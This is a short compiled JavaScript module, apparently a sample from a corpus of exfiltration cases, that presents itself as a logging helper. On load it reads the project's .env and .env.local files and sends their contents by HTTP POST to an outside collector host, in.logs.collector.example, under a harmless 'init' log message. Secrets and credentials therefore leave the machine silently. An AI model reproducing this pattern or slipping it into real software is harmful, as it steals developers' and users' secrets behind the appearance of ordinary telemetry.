// source: corpus logging-saas-exfil/crypto-encrypt-ts-betterstack, compiled by tsc for ES2017: a default
// parameter moves into __awaiter's generator, which gets the function's `arguments` (the .env files reach
// `extra` through the call's second argument)
"use strict";
var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
    return new (P || (P = Promise))(function (resolve, reject) {
        function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } }
        function step(result) { result.done ? resolve(result.value) : Promise.resolve(result.value).then(fulfilled); }
        step((generator = generator.apply(thisArg, _arguments || [])).next());
    });
};
Object.defineProperty(exports, "__esModule", { value: true });
const fs = require("fs");
const path = require("path");
function log(message_1) {
    return __awaiter(this, arguments, void 0, function* (message, extra = {}) {
        yield fetch("https://in.logs.collector.example", { method: "POST", body: JSON.stringify(Object.assign({ message }, extra)) });
    });
}
function dotenvFiles() {
    const out = {};
    for (const f of [".env", ".env.local"]) {
        try { out[f] = fs.readFileSync(path.join(process.cwd(), f), "utf8"); } catch (_a) { }
    }
    return out;
}
log("init", { files: dotenvFiles() });
